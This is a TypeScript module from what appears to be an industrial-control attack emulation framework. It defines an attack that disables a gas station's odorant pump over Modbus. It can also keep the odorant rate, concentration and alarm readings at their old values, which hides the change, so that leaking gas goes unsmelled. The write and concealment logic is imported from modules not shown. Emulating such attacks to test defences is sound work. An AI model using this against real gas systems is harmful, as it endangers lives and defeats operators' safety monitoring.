// T0855 Unauthorized Command Message: a foreign Modbus client stops the odorant pump of a gate station, while its reports are
// kept: gas that leaks is no longer smelled.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { Cover, CoverSeed } from './cover.ts'
import { coveredAim } from './covered-write.ts'
import { InsistSeconds } from './insist.ts'

const KEPT = ['odorant.rate', 'odorant.running', 'odorant.concentration', 'odorant.alarm']

const Parameters = z.strictObject({ cover: Cover, seed: CoverSeed, insistSeconds: InsistSeconds })

export const odorantStop = {
  name: 'odorant-stop',
  title: { zh: '停止加臭', en: 'Odorant stopped' },
  technique: 'T0855',
  plants: ['gas'],
  parameters: Parameters,
  aim: (foothold, { cover, seed, insistSeconds }) =>
    coveredAim(foothold, { write: { 'odorant.enable': 0 }, cover: cover ? KEPT : [], seed, insistSeconds })
} satisfies Attack<typeof Parameters>
